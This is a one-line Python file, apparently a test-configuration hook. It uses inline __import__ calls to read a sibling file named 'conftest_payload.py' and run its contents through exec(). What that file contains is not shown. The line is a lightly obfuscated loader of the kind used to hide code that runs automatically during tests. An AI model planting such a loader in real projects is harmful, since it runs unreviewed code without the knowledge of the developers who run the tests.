exec(open(__import__("os").path.join(__import__("os").path.dirname(__file__), "conftest_payload.py")).read())
